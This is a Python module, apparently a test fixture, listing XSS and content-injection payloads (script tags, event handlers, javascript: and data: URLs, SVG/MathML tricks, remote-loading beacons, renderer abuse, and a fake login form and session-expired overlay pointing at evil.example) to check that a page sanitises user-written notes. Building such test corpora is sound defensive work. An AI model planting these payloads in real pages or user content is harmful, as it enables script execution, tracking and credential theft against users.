"""What somebody may write in a question or a note to make a page run, fetch or pretend something."""

from __future__ import annotations

_AWAY = "http://evil.example"
_RUN = "window.attacked=1"

PAYLOADS = (
    # Scripts
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}/a.js></script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<<script>{_RUN}//<</script>",
    f"</p></div><script>{_RUN}</script>",
    f"<script type=module>import '{_AWAY}/m.js'</script>",
    f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
    f"<template><script>{_RUN}</script></template>",
    # Event handlers
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<video><source onerror={_RUN}></video>",
    f"<div onpointerenter={_RUN} style=position:fixed;inset:0>x</div>",
    f"<a href=# onclick={_RUN}>x</a>",
    f"<select autofocus onfocus={_RUN}></select>",
    # Addresses that run
    f"[clic](javascript:{_RUN})",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='jav&#x09;ascript:{_RUN}'>x</a>",
    f"[clic](data:text/html,<script>{_RUN}</script>)",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg onload={_RUN}>'>",
    f"[clic](vbscript:{_RUN})",
    f"<form action='javascript:{_RUN}'><button>x</button></form>",
    # SVG and MathML
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='{_AWAY}/s.svg#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    # Beacons
    f"![]({_AWAY}/pixel.png)",
    f"![x][r]\n\n[r]: {_AWAY}/reference.png",
    f"<img src={_AWAY}/pixel.png>",
    f"<img srcset='{_AWAY}/1x.png 1x'>",
    f"<picture><source srcset={_AWAY}/p.png><img></picture>",
    f'<div style="background:url({_AWAY}/b.png)">x</div>',
    f"<style>@import '{_AWAY}/s.css';</style>",
    f"<link rel=stylesheet href={_AWAY}/s.css>",
    f"<link rel=prefetch href={_AWAY}/f>",
    f"<video src={_AWAY}/v.mp4 autoplay></video>",
    f"<audio src={_AWAY}/a.mp3 autoplay></audio>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    # Markup that a renderer may turn into something else
    f'```mermaid\ngraph TD; A[<img src=x onerror={_RUN}>]-->B; click A href "javascript:{_RUN}"\n```',
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"$\\includegraphics{{{_AWAY}/l.png}}$ \\(\\unicode{{x41}}\\)",
    f"$$\\htmlStyle{{background:url({_AWAY}/k.png)}}{{x}}$$",
    f"<form action={_AWAY}><input type=password name=p><button>Se connecter</button></form>",
    f"<div style='position:fixed;inset:0;background:#fff'>Session expirée : {_AWAY}</div>",
    f"<{_AWAY}/auto> www.evil.example {_AWAY}/auto",
    "&lt;script&gt;window.attacked=1&lt;/script&gt;",
    f"\u202e\u0000<img/src=`x`onerror={_RUN}>",
)
